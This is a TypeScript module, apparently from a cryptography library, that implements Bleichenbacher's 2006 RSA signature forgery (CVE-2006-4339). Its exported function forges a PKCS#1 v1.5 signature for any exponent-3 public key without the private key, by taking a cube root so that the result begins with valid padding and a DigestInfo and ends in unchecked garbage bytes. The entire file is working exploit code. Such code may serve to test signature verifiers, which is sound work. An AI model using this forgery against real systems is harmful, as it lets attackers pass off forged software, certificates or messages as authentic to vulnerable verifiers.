/**
 * Forged RSASSA-PKCS1-v1_5 signatures: D. Bleichenbacher at CRYPTO 2006, CVE-2006-4339.
 *
 * @module
 */

import {
  concat,
  integerOctets,
  nullValue,
  objectIdentifier,
  octetString,
  sequence,
} from "../asn1/der-writer.ts";
import { digest, type HashName, hashes } from "./hash.ts";

/**
 * Forges a signature for any public key of `bits` bits whose exponent is 3, without the private key. Its cube is
 * `00 01 FF … FF 00 DigestInfo garbage`: good for a verifier that finds the DigestInfo and does not ask what follows.
 */
export function forgePkcs1(bits: number, hash: HashName, data: Uint8Array): Uint8Array {
  const algorithm = sequence(objectIdentifier(hashes[hash].oid), nullValue());
  const digestInfo = sequence(algorithm, octetString(digest(hash, data)));
  const front = concat(Uint8Array.of(0, 1), padding, Uint8Array.of(0), digestInfo);
  const length = Math.ceil(bits / 8);
  const rest = BigInt(8 * (length - front.length));
  const wanted = (BigInt(`0x${Buffer.from(front).toString("hex")}`) + 1n) << rest;
  const root = cubeRoot(wanted);
  if ((root ** 3n) >> rest !== (wanted >> rest) - 1n) {
    throw new TypeError(`a modulus of ${bits} bits has no room for garbage behind a ${hash}`);
  }
  const octets = integerOctets(root);
  return concat(new Uint8Array(length - octets.length), octets);
}

/** The whole part. */
function cubeRoot(value: bigint): bigint {
  let root = 1n << BigInt(Math.ceil(value.toString(2).length / 3));
  for (let next = root; ; root = next) {
    next = (2n * root + value / root ** 2n) / 3n;
    if (next >= root) return root;
  }
}

// The fewest octets that RFC 8017, 9.2 allows.
const padding = new Uint8Array(8).fill(0xff);
